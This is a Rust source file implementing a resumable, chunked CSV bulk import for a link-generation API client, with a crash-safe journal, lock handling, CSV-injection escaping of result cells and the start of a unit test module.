//! `prolinksqr bulk import`: a CSV file sent in chunks of at most 1,200 records through
//! [`prolinksqr::bulk_import`], with a result file that says what became of every row and
//! lets a later run resume.
//!
//! The input is read twice, row by row: once to check every row (nothing is sent if one is
//! bad), then to send. Each row's outcome is appended to a journal beside the result file
//! as it is known (a chunk's rows as `unknown` before it is sent, then as what became of
//! them), synced per chunk, and the journal becomes the result file when the run ends, so
//! time and memory stay linear in the rows and a crash loses nothing that was sent.

use std::borrow::Cow;
use std::fmt::Write as _;
use std::fs::File;
use std::io::{BufReader, IsTerminal, Read, Seek, SeekFrom, Write};
use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime};

use futures::FutureExt;
use indicatif::{ProgressBar, ProgressDrawTarget, ProgressStyle};
use prolinksqr::Client;
use prolinksqr::bulk_import::ChunkStatus;

use crate::Error;
use crate::records::{LinkKind, Row, RowError, RowReader};

/// The most records `POST /bulk-generate` takes in one call.
pub const CHUNK_SIZE: usize = prolinksqr::bulk_import::CHUNK_SIZE;

/// The highest chunk number a result file may hold: far above what any import reaches
/// (1,200 records each), and low enough that counting on from it cannot overflow.
const MAX_CHUNK: u64 = 1_000_000_000;

/// How many bad rows an error message lists (all are counted).
const MAX_LISTED_ERRORS: usize = 100;

/// What a resumed import does with rows whose earlier outcome is unknown (a chunk that
/// was sent but never answered).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum UnknownRows {
    /// Refuse to resume until the user decides (the default): sending them again may
    /// create duplicates, skipping them may lose links.
    #[default]
    Refuse,
    /// Send them again (`--resend-unknown`).
    Resend,
    /// Treat them as created (`--skip-unknown`).
    Skip,
}

/// The inputs of one import.
#[derive(Debug, Clone)]
pub struct ImportOptions {
    /// The CSV file of records.
    pub input: PathBuf,
    /// The record type of every row.
    pub kind: LinkKind,
    /// A folder id or name to put every link in.
    pub folder: Option<String>,
    /// Where to write the result file; by default `--resume`'s file, else `<input>.result.csv`.
    pub result: Option<PathBuf>,
    /// The result file of an earlier run of the same input: rows it lists as `created`
    /// are not sent again.
    pub resume: Option<PathBuf>,
    /// What to do with rows of unknown outcome in the `resume` file.
    pub unknown: UnknownRows,
    /// How long to wait for each chunk's answer.
    pub chunk_timeout: Duration,
    /// Whether to draw a progress bar on stderr (only ever drawn on a terminal).
    pub progress: bool,
}

/// What became of a row, as the result file spells it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Status {
    /// The server answered 2xx to the row's chunk.
    Created,
    /// The server refused the row's chunk with a 4xx, or it could not be sent.
    Failed,
    /// The row's chunk was sent but no usable answer came (a timeout, a lost connection,
    /// a 5xx, Ctrl-C): the links may or may not exist.
    Unknown,
    /// The row was not sent (an earlier chunk stopped the import).
    NotSent,
}

impl Status {
    const ALL: [Status; 4] = [
        Status::Created,
        Status::Failed,
        Status::Unknown,
        Status::NotSent,
    ];

    fn as_str(self) -> &'static str {
        match self {
            Status::Created => "created",
            Status::Failed => "failed",
            Status::Unknown => "unknown",
            Status::NotSent => "not-sent",
        }
    }

    fn parse(value: &str) -> Option<Status> {
        Status::ALL
            .into_iter()
            .find(|status| status.as_str() == value)
    }
}

/// One line of the result file.
#[derive(Debug, Clone, PartialEq, Eq)]
struct Outcome {
    line: u64,
    name: String,
    status: Status,
    chunk: Option<u64>,
    id: String,
    url: String,
}

impl Outcome {
    fn of(row: &Row, status: Status, chunk: Option<u64>) -> Outcome {
        Outcome {
            line: row.line,
            name: row.name.clone(),
            status,
            chunk,
            id: String::new(),
            url: String::new(),
        }
    }
}

const RESULT_HEADER: [&str; 6] = ["line", "name", "status", "chunk", "id", "url"];

/// A text cell as written to the result file. A spreadsheet runs a cell that starts with
/// `=`, `+`, `-`, `@`, a tab or a carriage return as a formula, and names, ids and URLs
/// come from the input and the server: such a cell gets a leading `'` (OWASP's rule for
/// CSV injection). A cell that starts with `'` gets one too, so that [`unescape_cell`]
/// gives back every value as it was.
fn escape_cell(value: &str) -> Cow<'_, str> {
    if value.starts_with(['=', '+', '-', '@', '\t', '\r', '\'']) {
        Cow::Owned(format!("'{value}"))
    } else {
        Cow::Borrowed(value)
    }
}

/// The value of a text cell of the result file (see [`escape_cell`]).
fn unescape_cell(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}

/// What a finished import did.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ImportSummary {
    /// Rows created by this run.
    pub created: usize,
    /// Rows an earlier run had created (skipped).
    pub skipped: usize,
    /// Requests this run made to `POST /bulk-generate`.
    pub requests: usize,
    /// The result file written.
    pub result: PathBuf,
}

/// Runs an import: takes the result file's lock, reads and checks every row (nothing is
/// sent if any is bad), resolves the folder, sends the rows that still need sending in
/// chunks of [`CHUNK_SIZE`] and records each chunk's outcome before the next is sent.
///
/// Human-readable progress and the final report go to `log`. A chunk that is not created
/// stops the import with [`Error::Import`], once the result file is written.
pub async fn run(
    client: &Client,
    options: &ImportOptions,
    log: &mut (dyn Write + Send),
) -> Result<ImportSummary, Error> {
    let result_path = options
        .result
        .clone()
        .or_else(|| options.resume.clone())
        .unwrap_or_else(|| default_result_path(&options.input));
    refuse_result_as_input(&options.input, &result_path)?;
    let _lock = Lock::acquire(&result_path)?;
    let resumed_journal = stale_journal(&result_path, options)?;

    let plan = check(options)?;
    if !plan.unknown.is_empty() && options.unknown == UnknownRows::Refuse {
        let resume = options.resume.as_deref().unwrap_or(&result_path);
        return Err(Error::Usage(format!(
            "{}: the outcome of {} is unknown (sent, never answered); check whether \
             those links exist (e.g. `prolinksqr links export`), then resume with \
             --skip-unknown (treat them as created) or --resend-unknown (send them again)",
            resume.display(),
            plan.unknown.phrase(),
        )));
    }
    let folder_id = match &options.folder {
        Some(folder) => Some(resolve_folder(client, folder).await?),
        None => None,
    };
    let skipped = plan.created.count;
    if skipped > 0 {
        writeln!(
            log,
            "skipping {skipped} rows already created ({})",
            plan.created.phrase()
        )?;
    }

    let mut feed = Feed {
        cursor: Cursor::open(options)?,
        peeked: None,
        error: None,
        unknown: options.unknown,
    };
    let mut journal = Journal::create(&result_path)?;
    let progress = progress_bar(options.progress, (plan.rows - skipped) as u64);
    // One listener for the whole import, so that a Ctrl-C between two chunks is not lost.
    let interrupt = tokio::signal::ctrl_c();
    tokio::pin!(interrupt);
    let mut number = plan.next_chunk;
    let (mut created, mut requests) = (0, 0);
    // Why the import stopped early, and whether it was Ctrl-C.
    let mut stop: Option<(String, bool)> = None;
    'import: loop {
        while let Some(item) = feed.next_if(true) {
            journal.append(
                &item
                    .done
                    .unwrap_or_else(|| Outcome::of(&item.row, Status::NotSent, None)),
            )?;
        }
        if feed.peek().is_none() {
            break;
        }
        // A chunk never spans a row already created, so that the journal stays in the
        // input's order: the rows between two such rows are an import of their own.
        let pending = std::iter::from_fn(|| feed.next_if(false).map(|item| item.row));
        let mut import = client
            .bulk()
            .import(pending)
            .chunk_timeout(options.chunk_timeout);
        if let Some(folder_id) = &folder_id {
            import = import.folder_id(folder_id.as_str());
        }
        while let Some(chunk) = import.next_chunk().await {
            let this = number;
            number += 1;
            if (&mut interrupt).now_or_never().is_some() {
                for row in &chunk.records {
                    journal.append(&Outcome::of(row, Status::NotSent, None))?;
                }
                stop = Some((format!("interrupted before chunk {this}"), true));
                break 'import;
            }
            let sent: Vec<Outcome> = chunk
                .records
                .iter()
                .map(|row| Outcome::of(row, Status::Unknown, Some(this)))
                .collect();
            // On disk before the request leaves: if this process dies while waiting, the
            // journal says exactly that.
            journal.mark_sent(&sent)?;
            requests += 1;
            progress.set_message(format!("chunk {this}"));
            let answer = tokio::select! {
                outcome = chunk.send() => Some(outcome),
                _ = &mut interrupt => None,
            };
            let lines = || Lines::of(sent.iter().map(|o| o.line)).phrase();
            let Some(outcome) = answer else {
                journal.settle(&sent)?;
                let reason = "was sent, but its outcome is unknown: interrupted (Ctrl-C)";
                stop = Some((format!("chunk {this} ({}) {reason}", lines()), true));
                break 'import;
            };
            let links = outcome.links();
            let settled: Vec<Outcome> = sent
                .iter()
                .enumerate()
                .map(|(position, o)| {
                    let mut o = o.clone();
                    match &outcome.status {
                        ChunkStatus::Created { .. } => o.status = Status::Created,
                        ChunkStatus::Failed(_) => o.status = Status::Failed,
                        _ => {}
                    }
                    if let Some(link) = links.map(|links| &links[position]) {
                        o.id = (link.dynamic_link_id.clone())
                            .or_else(|| link.id.clone())
                            .unwrap_or_default();
                        o.url = link.full_dynamic_url.clone().unwrap_or_default();
                    }
                    o
                })
                .collect();
            journal.settle(&settled)?;
            let what = match &outcome.status {
                ChunkStatus::Created { .. } => {
                    created += settled.len();
                    progress.inc(settled.len() as u64);
                    continue;
                }
                ChunkStatus::Failed(error) => format!("failed: {error}"),
                ChunkStatus::Unknown(error) => {
                    format!("was sent, but its outcome is unknown: {error}")
                }
                _ => "was sent, but its outcome is unknown".to_owned(),
            };
            stop = Some((format!("chunk {this} ({}) {what}", lines()), false));
            break 'import;
        }
    }
    // The rest of the rows, as they stand: created earlier, or not sent.
    while let Some(item) = feed.next_any() {
        journal.append(
            &item
                .done
                .unwrap_or_else(|| Outcome::of(&item.row, Status::NotSent, None)),
        )?;
    }
    progress.finish_and_clear();
    let changed = feed.error.take();
    let lines = journal.finish(&result_path)?;
    if let Some(journal) = resumed_journal {
        // Everything it recorded is in the new result file now.
        let _ = std::fs::remove_file(journal);
    }
    if let Some(error) = changed {
        let message = format!("{error}\n{}", report(&lines, &result_path, options));
        return Err(Error::Import(message));
    }
    if let Some((message, interrupted)) = stop {
        let message = format!("{message}\n{}", report(&lines, &result_path, options));
        return Err(if interrupted {
            Error::Interrupted(message)
        } else {
            Error::Import(message)
        });
    }
    writeln!(
        log,
        "created {created} {} links in {requests} {}; result in {}",
        options.kind,
        if requests == 1 { "request" } else { "requests" },
        result_path.display()
    )?;
    Ok(ImportSummary {
        created,
        skipped,
        requests,
        result: result_path,
    })
}

/// Refuses a result file that is the input itself (the same file by device and inode:
/// through a symlink, a hard link or another spelling of its path).
fn refuse_result_as_input(input: &Path, result: &Path) -> Result<(), Error> {
    if same_file::is_same_file(input, result).unwrap_or(false) {
        return Err(Error::Usage(format!(
            "the result file {} is the input file {}: pass another --result",
            result.display(),
            input.display()
        )));
    }
    Ok(())
}

/// What the check of the input (and of the resumed result file) found.
struct Plan {
    /// Valid rows in the input.
    rows: usize,
    /// Rows an earlier run created (or whose unknown outcome is taken as created).
    created: Lines,
    /// Rows whose outcome the resumed file says is unknown.
    unknown: Lines,
    /// The number of the first chunk this run sends.
    next_chunk: u64,
}

/// Reads every row of the input and of the resumed result file, without keeping them:
/// either all are good, or the error lists the bad rows.
fn check(options: &ImportOptions) -> Result<Plan, Error> {
    let mut cursor = Cursor::open(options)?;
    let mut plan = Plan {
        rows: 0,
        created: Lines::default(),
        unknown: Lines::default(),
        next_chunk: 1,
    };
    let mut errors: Vec<RowError> = Vec::new();
    let mut bad = 0_usize;
    while let Some(next) = cursor.next()? {
        match next {
            Next::Bad(error) => {
                bad += 1;
                if errors.len() < MAX_LISTED_ERRORS {
                    errors.push(error);
                }
                // Past a bad row, the resumed file cannot be matched with any meaning.
                cursor.resume = None;
            }
            Next::Row(row, earlier) => {
                plan.rows += 1;
                let Some(earlier) = earlier else { continue };
                if earlier.status == Status::Unknown {
                    plan.unknown.push(row.line);
                }
                if let Some(done) = Item::done(earlier, options.unknown) {
                    plan.created.push(done.line);
                    if let Some(chunk) = done.chunk {
                        // Chunk numbers go on from the resumed file's, so that a chunk
                        // that created links keeps a number of its own.
                        plan.next_chunk = plan.next_chunk.max(chunk + 1);
                    }
                }
            }
        }
    }
    if bad == 0 {
        return Ok(plan);
    }
    let mut message = format!(
        "{} has {bad} bad {}; nothing was sent:",
        options.input.display(),
        if bad == 1 { "row" } else { "rows" }
    );
    for error in &errors {
        let _ = write!(message, "\n  {error}");
    }
    if bad > errors.len() {
        let _ = write!(message, "\n  ... and {} more", bad - errors.len());
    }
    Err(Error::Input(message))
}

/// A row of the input, with what the resumed result file says of it.
// One at a time: boxing the row would cost an allocation per row for nothing.
#[allow(clippy::large_enum_variant)]
enum Next {
    Row(Row, Option<Outcome>),
    Bad(RowError),
}

/// The input's rows in step with the rows of the result file being resumed, which must
/// be those of the same input, in its order. The resumed file may end early (a run that
/// was killed): the rows after its end were not sent.
struct Cursor {
    input: PathBuf,
    rows: RowReader<BufReader<File>>,
    resume: Option<ResultReader>,
    peeked: Option<Outcome>,
}

impl Cursor {
    fn open(options: &ImportOptions) -> Result<Cursor, Error> {
        let input = &options.input;
        let file = File::open(input)
            .map_err(|e| Error::Input(format!("cannot open {}: {e}", input.display())))?;
        let rows = RowReader::new(BufReader::new(file), options.kind).map_err(|error| {
            Error::Input(format!(
                "{} has 1 bad row; nothing was sent:\n  {error}",
                input.display()
            ))
        })?;
        let resume = match &options.resume {
            Some(path) => Some(ResultReader::open(path)?),
            None => None,
        };
        Ok(Cursor {
            input: input.clone(),
            rows,
            resume,
            peeked: None,
        })
    }

    fn next(&mut self) -> Result<Option<Next>, Error> {
        let row = match self.rows.next() {
            Some(Ok(row)) => row,
            Some(Err(error)) => return Ok(Some(Next::Bad(error))),
            None => {
                return match self.earlier()?.is_some() {
                    true => Err(self.not_in_input()),
                    false => Ok(None),
                };
            }
        };
        let (same, before) = match self.earlier()? {
            Some(earlier) => (
                earlier.line == row.line && earlier.name == row.name,
                earlier.line < row.line,
            ),
            None => return Ok(Some(Next::Row(row, None))),
        };
        if same {
            Ok(Some(Next::Row(row, self.peeked.take())))
        } else if before {
            Err(self.not_in_input())
        } else {
            Err(self.mismatch(format!(
                "line {} ({:?}) is not in it as such",
                row.line, row.name
            )))
        }
    }

    /// The resumed file's next row, not taken.
    fn earlier(&mut self) -> Result<Option<&Outcome>, Error> {
        if let (None, Some(resume)) = (&self.peeked, &mut self.resume) {
            self.peeked = resume.next()?;
        }
        Ok(self.peeked.as_ref())
    }

    /// The error for the resumed file's next row, which is not a row of the input.
    fn not_in_input(&self) -> Error {
        let (line, name) = self
            .peeked
            .as_ref()
            .map(|extra| (extra.line, extra.name.as_str()))
            .unwrap_or_default();
        self.mismatch(format!(
            "its line {line} ({name:?}) is not a row of {}",
            self.input.display()
        ))
    }

    fn mismatch(&self, what: String) -> Error {
        let path = self.resume.as_ref().map(|r| r.path.as_path());
        Error::Usage(format!(
            "{}: it does not match the input: {what}; resume with the result file of this \
             same CSV",
            path.unwrap_or(Path::new("")).display()
        ))
    }
}

/// A row of the second pass: what to send, or what an earlier run already did.
struct Item {
    row: Row,
    /// The earlier outcome, if the row counts as created.
    done: Option<Outcome>,
}

impl Item {
    /// The earlier outcome as this run takes it over, if the row is not to be sent.
    fn done(mut earlier: Outcome, unknown: UnknownRows) -> Option<Outcome> {
        match earlier.status {
            Status::Created => Some(earlier),
            Status::Unknown if unknown == UnknownRows::Skip => {
                earlier.status = Status::Created;
                Some(earlier)
            }
            _ => None,
        }
    }
}

/// The second pass over the input, one row of look-ahead. A row that is bad now (the
/// file changed since it was checked) ends it, with the reason in `error`.
struct Feed {
    cursor: Cursor,
    peeked: Option<Item>,
    error: Option<Error>,
    unknown: UnknownRows,
}

impl Feed {
    fn peek(&mut self) -> Option<&Item> {
        if self.peeked.is_none() && self.error.is_none() {
            match self.cursor.next() {
                Ok(Some(Next::Row(row, earlier))) => {
                    let done = earlier.and_then(|e| Item::done(e, self.unknown));
                    self.peeked = Some(Item { row, done });
                }
                Ok(Some(Next::Bad(error))) => {
                    self.error = Some(Error::Input(format!(
                        "{} changed while it was being imported: {error}",
                        self.cursor.input.display()
                    )));
                }
                Ok(None) => {}
                Err(error) => self.error = Some(error),
            }
        }
        self.peeked.as_ref()
    }

    /// The next row, if it is one an earlier run created (`done`) or one to send.
    fn next_if(&mut self, done: bool) -> Option<Item> {
        if self.peek()?.done.is_some() == done {
            self.peeked.take()
        } else {
            None
        }
    }

    fn next_any(&mut self) -> Option<Item> {
        self.peek()?;
        self.peeked.take()
    }
}

/// Reads a result file row by row, refusing what `bulk import` never writes.
struct ResultReader {
    path: PathBuf,
    reader: csv::Reader<BufReader<File>>,
    record: csv::StringRecord,
    last_line: u64,
}

impl ResultReader {
    fn open(path: &Path) -> Result<ResultReader, Error> {
        let input = |message: String| Error::Input(format!("{}: {message}", path.display()));
        let file = File::open(path).map_err(|e| input(e.to_string()))?;
        let mut reader = csv::Reader::from_reader(BufReader::new(file));
        let header = reader.headers().map_err(|e| input(e.to_string()))?;
        if header.iter().ne(RESULT_HEADER) {
            return Err(input(format!(
                "not a result file of `prolinksqr bulk import` (its header is not {})",
                RESULT_HEADER.join(",")
            )));
        }
        Ok(ResultReader {
            path: path.to_owned(),
            reader,
            record: csv::StringRecord::new(),
            last_line: 1,
        })
    }

    fn next(&mut self) -> Result<Option<Outcome>, Error> {
        let input = |message: String| Error::Input(format!("{}: {message}", self.path.display()));
        let more = (self.reader.read_record(&mut self.record)).map_err(|e| input(e.to_string()))?;
        if !more {
            return Ok(None);
        }
        let record = &self.record;
        let at = record.position().map_or(0, csv::Position::line);
        let field = |i: usize| record.get(i).unwrap_or_default();
        let bad = |what: &str, value: &str| input(format!("line {at}: bad {what} {value:?}"));
        let line: u64 = field(0)
            .parse()
            .ok()
            .filter(|&line| line > 1)
            .ok_or_else(|| bad("line number", field(0)))?;
        if line <= self.last_line {
            return Err(input(format!(
                "line {at}: line {line} comes after line {}: the rows are not those of \
                 an input, in its order",
                self.last_line
            )));
        }
        self.last_line = line;
        let chunk = match field(3) {
            "" => None,
            chunk => Some(
                chunk
                    .parse::<u64>()
                    .ok()
                    .filter(|c| (1..=MAX_CHUNK).contains(c))
                    .ok_or_else(|| {
                        input(format!(
                            "line {at}: chunk {chunk:?} is out of range (1 to {MAX_CHUNK})"
                        ))
                    })?,
            ),
        };
        Ok(Some(Outcome {
            line,
            name: unescape_cell(field(1)).to_owned(),
            status: Status::parse(field(2)).ok_or_else(|| bad("status", field(2)))?,
            chunk,
            id: unescape_cell(field(4)).to_owned(),
            url: unescape_cell(field(5)).to_owned(),
        }))
    }
}

/// The result file while the import runs: rows are appended in the input's order as
/// their outcome is known; a chunk's rows are written as `unknown` and synced before it
/// is sent, then overwritten in place with what became of them. It has a random name in
/// the result file's folder, created exclusively (a planted file or symlink is never
/// followed), and is renamed to the result file at the end. A run that is killed leaves
/// it behind, as a result file to resume from.
struct Journal {
    path: PathBuf,
    writer: csv::Writer<Sink>,
    /// Where the rows of the chunk in flight start.
    sent_at: Option<u64>,
    /// The final status of every row written, by status.
    lines: [Lines; 4],
}

/// The journal's file, counting what is written to it: the end of what it holds, where
/// the next byte goes (a `Cell`, as the csv writer lends its sink only by `&`).
struct Sink {
    file: File,
    written: std::cell::Cell<u64>,
}

impl Write for Sink {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        let n = self.file.write(buf)?;
        self.written.set(self.written.get() + n as u64);
        Ok(n)
    }

    fn flush(&mut self) -> std::io::Result<()> {
        self.file.flush()
    }
}

impl Journal {
    fn create(result: &Path) -> Result<Journal, Error> {
        let (dir, name) = dir_and_name(result);
        let io = |e: std::io::Error| {
            Error::Io(format!("cannot create a file in {}: {e}", dir.display()))
        };
        let (file, path) = tempfile::Builder::new()
            .prefix(&journal_prefix(&name))
            .suffix(JOURNAL_SUFFIX)
            .tempfile_in(&dir)
            .map_err(io)?
            .keep()
            .map_err(|e| io(e.error))?;
        let writer = csv::WriterBuilder::new()
            .has_headers(false)
            .buffer_capacity(1 << 16)
            .from_writer(Sink {
                file,
                written: std::cell::Cell::new(0),
            });
        let mut journal = Journal {
            path,
            writer,
            sent_at: None,
            lines: Default::default(),
        };
        journal
            .writer
            .write_record(RESULT_HEADER)
            .map_err(|e| journal.io(e))?;
        Ok(journal)
    }

    fn io(&self, error: impl std::fmt::Display) -> Error {
        Error::Io(format!("cannot write {}: {error}", self.path.display()))
    }

    fn encode(&mut self, outcome: &Outcome) -> Result<(), Error> {
        let line = outcome.line.to_string();
        let chunk = outcome.chunk.map(|c| c.to_string()).unwrap_or_default();
        let record = [
            line.as_str(),
            &escape_cell(&outcome.name),
            outcome.status.as_str(),
            &chunk,
            &escape_cell(&outcome.id),
            &escape_cell(&outcome.url),
        ];
        self.writer.write_record(record).map_err(|e| self.io(e))
    }

    /// Writes out what is buffered and syncs it to the disk.
    fn sync(&mut self) -> Result<(), Error> {
        self.writer.flush().map_err(|e| self.io(e))?;
        let sink = self.writer.get_ref();
        sink.file
            .set_len(sink.written.get())
            .map_err(|e| self.io(e))?;
        sink.file.sync_data().map_err(|e| self.io(e))
    }

    /// Appends a row whose outcome is final.
    fn append(&mut self, outcome: &Outcome) -> Result<(), Error> {
        self.encode(outcome)?;
        self.lines[outcome.status as usize].push(outcome.line);
        Ok(())
    }

    /// Appends the rows of a chunk about to be sent (as `unknown`) and syncs.
    fn mark_sent(&mut self, sent: &[Outcome]) -> Result<(), Error> {
        self.writer.flush().map_err(|e| self.io(e))?;
        self.sent_at = Some(self.writer.get_ref().written.get());
        for outcome in sent {
            self.encode(outcome)?;
        }
        self.sync()
    }

    /// Replaces the rows of the chunk in flight with their outcome, and syncs.
    fn settle(&mut self, settled: &[Outcome]) -> Result<(), Error> {
        self.writer.flush().map_err(|e| self.io(e))?;
        if let Some(at) = self.sent_at.take() {
            (&self.writer.get_ref().file)
                .seek(SeekFrom::Start(at))
                .map_err(|e| self.io(e))?;
            self.writer.get_ref().written.set(at);
        }
        for outcome in settled {
            self.encode(outcome)?;
            self.lines[outcome.status as usize].push(outcome.line);
        }
        self.sync()
    }

    /// Makes the journal the result file.
    fn finish(mut self, result: &Path) -> Result<[Lines; 4], Error> {
        self.writer.flush().map_err(|e| self.io(e))?;
        self.writer
            .get_ref()
            .file
            .sync_all()
            .map_err(|e| self.io(e))?;
        std::fs::rename(&self.path, result).map_err(|e| {
            Error::Io(format!(
                "cannot rename {} to {}: {e}",
                self.path.display(),
                result.display()
            ))
        })?;
        Ok(self.lines)
    }
}

const JOURNAL_SUFFIX: &str = ".partial";

/// `.in.result.csv.`: journals are hidden files named after their result file.
fn journal_prefix(result_name: &str) -> String {
    format!(".{result_name}.")
}

/// The folder a path is in (`.` for a bare file name) and its file name.
fn dir_and_name(path: &Path) -> (PathBuf, String) {
    let dir = match path.parent() {
        Some(dir) if !dir.as_os_str().is_empty() => dir.to_owned(),
        _ => PathBuf::from("."),
    };
    let name = path
        .file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_default();
    (dir, name)
}

/// The journal an earlier run into `result` left when it was killed, if any: those
/// chunks were sent, and only that journal says so. It must be resumed from (then it is
/// returned, to be removed once the new result file has taken it over).
fn stale_journal(result: &Path, options: &ImportOptions) -> Result<Option<PathBuf>, Error> {
    let (dir, name) = dir_and_name(result);
    let prefix = journal_prefix(&name);
    let Ok(entries) = std::fs::read_dir(&dir) else {
        return Ok(None);
    };
    let mut journals: Vec<PathBuf> = entries
        .filter_map(|entry| {
            let entry = entry.ok()?;
            let file_name = entry.file_name();
            let file_name = file_name.to_str()?;
            (file_name.len() > prefix.len() + JOURNAL_SUFFIX.len()
                && file_name.starts_with(&prefix)
                && file_name.ends_with(JOURNAL_SUFFIX))
            .then(|| entry.path())
        })
        .collect();
    journals.sort();
    let resumed = |journal: &PathBuf| {
        options
            .resume
            .as_ref()
            .is_some_and(|resume| same_file::is_same_file(resume, journal).unwrap_or(false))
    };
    match journals.iter().find(|journal| !resumed(journal)) {
        None => Ok(journals.into_iter().next()),
        Some(journal) => Err(Error::Usage(format!(
            "an earlier import into {result} did not finish (it was killed): {journal} \
             records what it sent; resume from it: prolinksqr bulk import {input} --type \
             {kind} --resume {journal} --result {result}",
            result = result.display(),
            journal = journal.display(),
            input = options.input.display(),
            kind = options.kind,
        ))),
    }
}

/// An exclusive lock on `<result>.lock` for the whole run: two imports into the same
/// result file would both send every row. The file holds the holder's pid and start
/// time, for the message of a run that finds it taken, and is removed at the end.
struct Lock {
    path: PathBuf,
    _file: File,
}

impl Lock {
    fn acquire(result: &Path) -> Result<Lock, Error> {
        let mut name = result.as_os_str().to_owned();
        name.push(".lock");
        let path = PathBuf::from(name);
        let io = |e: std::io::Error| Error::Io(format!("cannot lock {}: {e}", path.display()));
        // The holder removes the file as it ends: a file locked after that is no longer
        // the one at the path, and another run may lock the new one. Lock again then.
        for _ in 0..10 {
            let mut file = open_lock_file(&path).map_err(io)?;
            match fs4::FileExt::try_lock(&file) {
                Ok(()) => {}
                Err(fs4::TryLockError::WouldBlock) => {
                    let mut holder = String::new();
                    let _ = (&file).take(256).read_to_string(&mut holder);
                    let holder = holder.trim();
                    return Err(Error::Usage(format!(
                        "another `prolinksqr bulk import` is writing {} ({}; lock file {}): \
                         wait for it to end",
                        result.display(),
                        if holder.is_empty() {
                            "starting"
                        } else {
                            holder
                        },
                        path.display()
                    )));
                }
                Err(fs4::TryLockError::Error(e)) => return Err(io(e)),
            }
            let same = match (
                same_file::Handle::from_path(&path),
                file.try_clone().and_then(same_file::Handle::from_file),
            ) {
                (Ok(at_path), Ok(locked)) => at_path == locked,
                _ => false,
            };
            if !same {
                continue;
            }
            let started = httpdate::fmt_http_date(SystemTime::now());
            file.set_len(0).map_err(io)?;
            write!(file, "pid {}, started {started}", std::process::id()).map_err(io)?;
            return Ok(Lock { path, _file: file });
        }
        Err(io(std::io::Error::other(
            "the lock file kept being replaced",
        )))
    }
}

impl Drop for Lock {
    fn drop(&mut self) {
        // Removed while still locked; the lock goes with the handle, just after.
        let _ = std::fs::remove_file(&self.path);
    }
}

/// Opens (or creates) the lock file without following a symlink planted at its path.
fn open_lock_file(path: &Path) -> std::io::Result<File> {
    let mut options = std::fs::OpenOptions::new();
    options.read(true).write(true).create(true).truncate(false);
    #[cfg(unix)]
    {
        use std::os::unix::fs::OpenOptionsExt;
        options.custom_flags(libc::O_NOFOLLOW);
    }
    options.open(path)
}

/// Line numbers, given in increasing order, kept as ranges.
#[derive(Debug, Default, Clone)]
struct Lines {
    ranges: Vec<(u64, u64)>,
    count: usize,
}

impl Lines {
    fn of(lines: impl IntoIterator<Item = u64>) -> Lines {
        let mut all = Lines::default();
        for line in lines {
            all.push(line);
        }
        all
    }

    fn push(&mut self, line: u64) {
        self.count += 1;
        match self.ranges.last_mut() {
            Some((_, end)) if *end + 1 == line => *end = line,
            _ => self.ranges.push((line, line)),
        }
    }

    fn is_empty(&self) -> bool {
        self.count == 0
    }

    /// `2-1201, 1300, 1302-1310`.
    fn ranges(&self) -> String {
        let ranges: Vec<String> = (self.ranges.iter())
            .map(|&(start, end)| {
                if start == end {
                    start.to_string()
                } else {
                    format!("{start}-{end}")
                }
            })
            .collect();
        ranges.join(", ")
    }

    /// `line 7` or `lines 2-1201, 1300`.
    fn phrase(&self) -> String {
        let ranges = self.ranges();
        if self.count > 1 {
            format!("lines {ranges}")
        } else {
            format!("line {ranges}")
        }
    }
}

/// `2-1201, 1300, 1302-1310`: sorted line numbers as ranges.
pub fn line_ranges(lines: impl IntoIterator<Item = u64>) -> String {
    let mut lines: Vec<u64> = lines.into_iter().collect();
    lines.sort_unstable();
    lines.dedup();
    Lines::of(lines).ranges()
}

/// Which lines are in which state, and how to go on.
fn report(lines: &[Lines; 4], result: &Path, options: &ImportOptions) -> String {
    let mut text = String::new();
    for (status, label) in [
        (Status::Created, "created (sent, server answered 2xx)"),
        (
            Status::Failed,
            "failed (refused with a 4xx or not sent: not created)",
        ),
        (
            Status::Unknown,
            "unknown (sent, no usable answer: check before resending)",
        ),
        (Status::NotSent, "not sent"),
    ] {
        let of_status = &lines[status as usize];
        if !of_status.is_empty() {
            let _ = writeln!(text, "  {label}: {}", of_status.phrase());
        }
    }
    let _ = write!(
        text,
        "result written to {}; to send the rest: prolinksqr bulk import {} --type {}{} --resume {}",
        result.display(),
        options.input.display(),
        options.kind,
        options
            .folder
            .as_ref()
            .map(|f| format!(" --folder {f}"))
            .unwrap_or_default(),
        result.display()
    );
    if !lines[Status::Unknown as usize].is_empty() {
        text.push_str(" (with --resend-unknown or --skip-unknown)");
    }
    text
}

fn progress_bar(wanted: bool, total: u64) -> ProgressBar {
    // indicatif would hide itself off a terminal too; checking here keeps the decision
    // visible and makes `progress: false` (tests, library use) certain.
    if !wanted || !std::io::stderr().is_terminal() {
        return ProgressBar::hidden();
    }
    let bar = ProgressBar::with_draw_target(Some(total), ProgressDrawTarget::stderr());
    if let Ok(style) =
        ProgressStyle::with_template("{bar:40} {pos}/{len} records, {msg} [{elapsed}]")
    {
        bar.set_style(style);
    }
    bar
}

fn default_result_path(input: &Path) -> PathBuf {
    let stem = input
        .file_stem()
        .map(|s| s.to_string_lossy().into_owned())
        .unwrap_or_else(|| "import".to_owned());
    input.with_file_name(format!("{stem}.result.csv"))
}

/// The id of the folder `name_or_id` names: a folder with that id, else the one folder
/// with that name.
pub async fn resolve_folder(client: &Client, name_or_id: &str) -> Result<String, Error> {
    let folders = client.folders().list().send().await?;
    if folders.iter().any(|f| f.id == name_or_id) {
        return Ok(name_or_id.to_owned());
    }
    let named: Vec<_> = folders.iter().filter(|f| f.name == name_or_id).collect();
    match named.as_slice() {
        [folder] => Ok(folder.id.clone()),
        [] => Err(Error::Usage(format!(
            "no folder has the id or name {name_or_id:?} (see `prolinksqr folders list`)"
        ))),
        several => Err(Error::Usage(format!(
            "{} folders are named {name_or_id:?} ({}): pass the id instead",
            several.len(),
            several
                .iter()
                .map(|f| f.id.as_str())
                .collect::<Vec<_>>()
                .join(", ")
        ))),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ranges_merge_consecutive_lines() {
        assert_eq!(line_ranges([5, 2, 3, 4, 9, 11, 12]), "2-5, 9, 11-12");
        assert_eq!(line_ranges([]), "");
